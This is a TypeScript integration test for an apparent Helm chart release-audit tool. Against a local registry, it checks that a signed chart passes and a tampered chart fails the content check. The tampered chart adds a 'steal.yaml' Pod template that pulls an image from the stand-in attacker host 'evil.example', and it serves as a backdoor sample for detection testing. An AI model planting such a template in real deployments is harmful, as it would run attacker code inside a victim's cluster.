/**
 * `auditReleases` against the real registry (CNCF distribution 2.8, plain HTTP on
 * loopback): a release of a signed chart passes every check; a release whose chart
 * carries an extra template (what a backdoored install looks like) fails the content
 * check, with the chart still found and its signature verified.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadChartArchive } from '../../src/chart/load.js';
import { pushChart } from '../../src/chart/oci.js';
import { keyFileSigner } from '../../src/keys/keys.js';
import { RegistryClient } from '../../src/oci/client.js';
import { auditReleases } from '../../src/policy/audit.js';
import { parseTrustConfig } from '../../src/policy/trust.js';
import { signLegacy } from '../../src/sign/legacy.js';
import { makeChartArchive } from '../helpers/chart-repo.js';
import { type StartedRegistry, startDockerRegistry } from '../helpers/docker-registry.js';
import { requireTool } from '../helpers/services.js';
import { listOf, releaseJson, secretOf, testKeys } from '../policy/audit-fixtures.js';

const missing = requireTool('docker-registry');

const FILES = {
  'values.yaml': 'greeting: hello\n',
  'templates/cm.yaml':
    'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}-cm\ndata:\n  greeting: {{ .Values.greeting }}\n',
};

describe.skipIf(missing)('auditReleases against the real docker-registry', () => {
  let registry: StartedRegistry;
  let client: RegistryClient;

  beforeAll(async () => {
    registry = await startDockerRegistry('plain');
    client = new RegistryClient({ plainHttp: true });
  }, 60_000);
  afterAll(async () => {
    await client?.close();
    await registry?.stop();
  });

  it('passes a release of the signed chart and fails one whose chart was tampered with', async () => {
    const archive = await makeChartArchive('app', '1.0.0', FILES);
    const chart = await loadChartArchive(archive);
    await pushChart(client, archive, chart.metadata, `oci://${registry.host}/charts`);
    const [keys] = await testKeys();
    const repo = client.repository(`${registry.host}/charts/app`);
    await signLegacy(repo, await repo.resolve('1.0.0'), await keyFileSigner(keys!.privateKeyPem, ''));
    const trust = parseTrustConfig({
      registries: [registry.host],
      verify: { keys: [keys!.publicKeyPem], tlog: 'skip' },
      charts: { reference: `oci://${registry.host}/charts/{name}:{version}` },
    });

    const good = releaseJson(chart, { name: 'web', namespace: 'prod' });
    const ok = await auditReleases({ json: listOf([secretOf(good)]) }, { trust, client });
    expect(ok.summary).toMatchObject({ releases: 1, passed: 1, failed: 0 });
    expect(ok.releases[0]!.checks.filter((c) => c.status === 'failed')).toEqual([]);

    const tampered = await loadChartArchive(
      await makeChartArchive('app', '1.0.0', {
        ...FILES,
        'templates/steal.yaml':
          'apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  containers:\n    - name: x\n      image: evil.example/steal:1\n',
      }),
    );
    const bad = releaseJson(tampered, { name: 'api', namespace: 'prod' });
    const report = await auditReleases({ json: listOf([secretOf(bad)]) }, { trust, client });
    expect(report.ok).toBe(false);
    const checks = Object.fromEntries(report.releases[0]!.checks.map((c) => [c.id, c.status]));
    expect(checks['chart-signature']).toBe('passed');
    expect(checks['chart-content']).toBe('failed');
  }, 60_000);
});
